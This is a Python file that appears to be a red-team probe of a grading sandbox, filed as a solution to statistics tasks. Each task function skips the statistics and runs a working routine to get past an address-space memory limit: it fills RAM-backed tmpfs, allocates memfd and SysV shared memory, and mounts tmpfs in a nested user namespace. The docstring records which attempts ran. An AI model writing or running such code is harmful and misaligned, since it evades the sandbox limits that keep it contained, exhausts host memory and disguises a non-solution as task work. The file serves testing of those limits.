"""ATTACK: memory that an address-space limit does not count — files in RAM-backed tmpfs
(/tmp, /dev/shm, /dev, /), memfd_create, SysV shared memory segments (shmget/shmat/shmdt)
and a nested user namespace with its own tmpfs. Capped at 3 GB in total; RT-ESCAPED when it
got more than 1.5 GB.

honest part: 0 points

proof: RT-RAN tmpfs files | bernoulli_log_likelihood() timed out after
proof: bernoulli_mle() raised RuntimeError: RT-RAN memfd
proof: gaussian_log_pdf() raised RuntimeError: RT-RAN SysV shm
proof: gaussian_mle() raised RuntimeError: RT-RAN nested user namespace
"""
import ctypes
import os
import signal

CHUNK = 32 * 2 ** 20
CAP = 3 * 2 ** 30
LIMIT = 1536 * 2 ** 20
BLOCK = b"\x01" * CHUNK
libc = ctypes.CDLL(None, use_errno=True)

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # write() then fails with EFBIG instead of killing us


def _files(folder):
    got = 0
    try:
        os.makedirs(folder, exist_ok=True)
    except OSError:
        return 0
    i = 0
    while got < CAP:
        try:
            fd = os.open(os.path.join(folder, f"rt-fill-{i}"), os.O_WRONLY | os.O_CREAT, 0o600)
        except OSError:
            break
        i += 1
        try:
            got += os.write(fd, BLOCK)
        except OSError:
            os.close(fd)
            break
        os.close(fd)
    return got


def _memfd():
    got, fds = 0, []
    while got < CAP:
        fd = libc.memfd_create(b"rt", 0)
        if fd < 0:
            break
        fds.append(fd)
        try:
            for _ in range(2):
                got += os.write(fd, BLOCK)
        except OSError:
            pass
    return got


def _sysv():
    libc.shmat.restype = ctypes.c_void_p
    got = 0
    while got < CAP:
        sid = libc.shmget(0, CHUNK, 0o1600)
        if sid < 0:
            break
        addr = libc.shmat(sid, None, 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(addr, 1, CHUNK)
        libc.shmdt(ctypes.c_void_p(addr))
        got += CHUNK
    return got


def _userns():
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        return 0
    os.makedirs("/tmp/rt-ns", exist_ok=True)
    if libc.mount(b"none", b"/tmp/rt-ns", b"tmpfs", 0, None) != 0:
        return 0
    return _files("/tmp/rt-ns")


def _check(kind, got):
    if got > LIMIT:
        raise RuntimeError(f"RT-ESCAPED {kind}: {got >> 20} MB outside the memory limit")
    raise RuntimeError(f"RT-RAN {kind}: only {got >> 20} MB")


def bernoulli_log_likelihood(theta, x):
    total = 0
    for d in ("/tmp/fill", "/dev/shm/fill", "/dev/fill", "/fill"):
        total += _files(d)
        if total >= CAP:
            break
    _check("tmpfs files", total)


def bernoulli_mle(x):
    _check("memfd", _memfd())


def gaussian_log_pdf(x, mu, var):
    _check("SysV shm", _sysv())


def gaussian_mle(x):
    _check("nested user namespace tmpfs", _userns())


def mvn_mle(x):
    raise NotImplementedError


def mvn_log_pdf(x, mu, cov):
    raise NotImplementedError("write your solution here")
